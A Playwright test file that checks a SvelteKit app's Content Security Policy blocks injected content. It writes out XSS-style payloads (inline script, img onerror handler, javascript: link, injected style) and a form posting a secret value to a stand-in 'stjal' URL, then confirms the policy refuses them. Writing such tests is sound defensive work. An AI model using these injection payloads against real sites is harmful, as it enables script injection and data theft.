/**
 * The Content Security Policy (svelte.config.js, kit.csp): a script that reaches the page past
 * the brief sanitiser does not run, a form cannot post anywhere, an injected <style> does not
 * apply, and the app itself (start page, an exercise, the manual) runs under the policy with no
 * violation. The control test serves the same page without the policy and shows the very same
 * injection runs, so the first test proves the policy, not a broken injection.
 *
 * Two deliveries of one policy: the static build ships it as a <meta> tag in the SPA fallback
 * page (build/index.html, rendered as a prerendered page, so with the start-up script's hash);
 * `vite preview` (and `npm run dev`) render the page on request and send it as a header. The
 * tests serve build/index.html itself as every page, as a static host does.
 */
import { expect, test as base, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { fangaSidfel, scenario, startaOvning } from './fixtures';

const FALLBACK = fileURLToPath(new URL('../../build/index.html', import.meta.url));
const META = /<meta http-equiv="content-security-policy" content="([^"]*)">/i;

/** Every page request answered with the build's fallback page, as adapter-static deploys it. */
async function somStatiskVard(page: Page, utanPolicy = false): Promise<void> {
	const html = readFileSync(FALLBACK, 'utf8');
	expect(html, 'build/index.html ska ha policyn som <meta>').toMatch(META);
	await page.route('**/*', async (route) => {
		if (route.request().resourceType() !== 'document') return route.continue();
		await route.fulfill({
			status: 200,
			contentType: 'text/html',
			body: utanPolicy ? html.replace(META, '') : html
		});
	});
}

/** The directives of a policy, by name. */
function direktivI(policy: string): Record<string, string[]> {
	return Object.fromEntries(
		policy
			.split(';')
			.map((d) => d.trim().split(/\s+/))
			.filter((d) => d[0])
			.map(([namn, ...varden]) => [namn, varden])
	);
}

const LEDSAGAR = scenario('ledsagarservice-ny-kund');

/** The console errors a refused injection gives: expected here, and nothing else is. */
const VANTAT_FEL = /Content Security Policy|Refused to (execute|apply|send form data)/;

const test = base.extend<{ sidfel: string[] }>({
	sidfel: [
		async ({ page, baseURL }, use) => {
			const fel = fangaSidfel(page, baseURL);
			await use(fel);
			expect(
				fel.filter((f) => !VANTAT_FEL.test(f)),
				'Sidan fick fel under testet'
			).toEqual([]);
		},
		{ auto: true }
	]
});

interface Utfall {
	/** What the injected script, the onerror handler and the javascript: link set. */
	flaggor: string[];
	/** The directives the browser reported as violated. */
	brott: string[];
	/** Whether the injected <style> took effect (it hides the body's first child). */
	stilVerkar: boolean;
}

/**
 * Everything a brief could smuggle in if the sanitiser let it through, put straight into the
 * live page: an inline <script>, an <img onerror>, a javascript: link clicked, a <style>, and a
 * <form> posting to another origin.
 */
async function injicera(page: Page, skickaForm: boolean): Promise<Utfall> {
	return page.evaluate(async (skickaForm) => {
		const w = window as unknown as { __cspXss?: string[] };
		w.__cspXss = [];
		const brott: string[] = [];
		document.addEventListener('securitypolicyviolation', (e) => brott.push(e.effectiveDirective));
		const ruta = document.createElement('div');
		document.body.append(ruta);

		const skript = document.createElement('script');
		skript.textContent = "window.__cspXss.push('script')";
		ruta.append(skript);

		ruta.insertAdjacentHTML(
			'beforeend',
			`<img src="data:image/png;base64,AAAA" onerror="window.__cspXss.push('onerror')">` +
				`<a id="csp-lank" href="javascript:window.__cspXss.push('lank')">l</a>` +
				`<style>body > :first-child { display: none !important }</style>` +
				`<iframe name="csp-ram" title="ram"></iframe>` +
				`<form id="csp-form" action="https://example.org/stjal" method="post" target="csp-ram">` +
				`<input name="text" value="hemligt"></form>`
		);
		const forsta = document.body.firstElementChild as HTMLElement;
		(document.getElementById('csp-lank') as HTMLAnchorElement).click();
		// Posted into a frame, so the page itself never leaves; only where the policy refuses it
		if (skickaForm) (document.getElementById('csp-form') as HTMLFormElement).submit();

		// Violation events and the image's error are asynchronous: give them a few turns
		for (let i = 0; i < 20 && brott.length < (skickaForm ? 5 : 4); i++)
			await new Promise((r) => setTimeout(r, 50));
		const stilVerkar = getComputedStyle(forsta).display === 'none';
		ruta.remove();
		return { flaggor: [...(w.__cspXss ?? [])], brott: [...new Set(brott)].sort(), stilVerkar };
	}, skickaForm);
}

test('the policy is SvelteKit’s: hashes, no unsafe-inline script, no form-action, no base or object', async ({
	page
}) => {
	const html = readFileSync(FALLBACK, 'utf8');
	const meta = direktivI(META.exec(html)?.[1].replace(/&#39;|&apos;/g, "'") ?? '');
	const svar = await page.goto('/');
	const header = direktivI(svar?.headers()['content-security-policy'] ?? '');
	for (const d of [meta, header]) {
		expect(d['default-src']).toEqual(["'self'"]);
		expect(d['script-src']).toContain("'self'");
		expect(d['script-src'].some((v) => v.startsWith("'sha256-"))).toBe(true);
		expect(d['script-src']).not.toContain("'unsafe-inline'");
		expect(d['script-src']).not.toContain("'unsafe-eval'");
		expect(d['form-action']).toEqual(["'none'"]);
		expect(d['base-uri']).toEqual(["'self'"]);
		expect(d['object-src']).toEqual(["'none'"]);
		expect(d['style-src-elem']).toEqual(["'self'"]);
	}
	// One policy only: the old meta tag in app.html would be a second, weaker one
	expect(html.match(/http-equiv="content-security-policy"/gi)).toHaveLength(1);
	await expect(page.locator('meta[http-equiv="content-security-policy" i]')).toHaveCount(0);
});

test('a script, handler, link, style and form put in the page past the sanitiser are refused', async ({
	page
}) => {
	await somStatiskVard(page);
	await startaOvning(page, LEDSAGAR.title);
	const utfall = await injicera(page, true);
	expect(utfall.flaggor).toEqual([]);
	expect(utfall.stilVerkar).toBe(false);
	expect(utfall.brott).toEqual(
		expect.arrayContaining(['form-action', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
	);
	// The exercise is still there and still works after the attempt
	await expect(page.getByRole('tab', { name: 'Mina sidor' })).toBeVisible();
	await page.getByRole('tab', { name: 'Social och vård dokumentation' }).click();
	await expect(page.getByRole('tab', { name: 'Social och vård dokumentation' })).toHaveAttribute(
		'aria-selected',
		'true'
	);
});

test('control: the same injection runs in the same page served without the policy', async ({
	page
}) => {
	// The fallback page without its CSP meta tag: what app.html's 'unsafe-inline' policy allowed
	await somStatiskVard(page, true);
	await page.goto('/');
	await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	const utfall = await injicera(page, false);
	expect(utfall.flaggor.sort()).toEqual(['lank', 'onerror', 'script']);
	expect(utfall.stilVerkar).toBe(true);
	expect(utfall.brott).toEqual([]);
});

test('the app runs under the policy: start page, an exercise and the manual, with no violation', async ({
	page,
	sidfel
}) => {
	const brott: string[] = [];
	page.on('console', (m) => {
		if (VANTAT_FEL.test(m.text())) brott.push(m.text());
	});
	await somStatiskVard(page);
	await startaOvning(page, LEDSAGAR.title);
	await page.getByRole('tab', { name: 'Social och vård dokumentation' }).click();
	await page.goto('/manual');
	await expect(page.getByRole('navigation', { name: 'Innehåll' })).toBeVisible();
	await page.goto('/manual/finns-inte');
	await expect(page.getByRole('heading', { level: 1 })).toHaveText('Avsnittet finns inte');
	expect(brott).toEqual([]);
	expect(sidfel).toEqual([]);
});
